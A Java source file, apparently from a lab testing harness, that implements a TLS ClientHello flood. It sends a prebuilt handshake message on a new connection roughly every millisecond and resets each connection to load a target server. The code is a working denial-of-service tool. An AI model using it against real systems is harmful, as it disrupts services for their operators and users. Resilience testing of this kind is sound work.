// SPDX-License-Identifier: Apache-2.0
package io.parasol.lab.attack;

import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.security.NoSuchAlgorithmException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;

/**
 * Sends the same ClientHello on a new connection each time, and resets the connection. A refusal
 * costs the sender nothing, so that it offers a thousand of them a second if the machine allows it.
 */
final class ClientHelloFlood implements Attacker {

  private static final long INTERVAL_NANOS = TimeUnit.MILLISECONDS.toNanos(1);

  private final AttackTarget target;
  private final byte[] hello;
  private final long startedAt = System.nanoTime();

  ClientHelloFlood(AttackTarget target) throws IOException {
    this.target = target;
    this.hello = clientHello();
  }

  private static byte[] clientHello() throws IOException {
    try {
      SSLEngine engine = SSLContext.getDefault().createSSLEngine("localhost", 8883);
      engine.setUseClientMode(true);
      ByteBuffer out = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
      engine.wrap(ByteBuffer.allocate(0), out);
      byte[] hello = new byte[out.flip().remaining()];
      out.get(hello);
      return hello;
    } catch (NoSuchAlgorithmException impossible) {
      throw new IOException(impossible);
    }
  }

  byte[] hello() {
    return hello;
  }

  @Override
  public boolean attempt(int number) {
    LockSupport.parkNanos(startedAt + number * INTERVAL_NANOS - System.nanoTime());
    try (Socket socket = target.plain()) {
      socket.setSoLinger(true, 0);
      socket.getOutputStream().write(hello);
      return true;
    } catch (IOException refused) {
      return false;
    }
  }
}
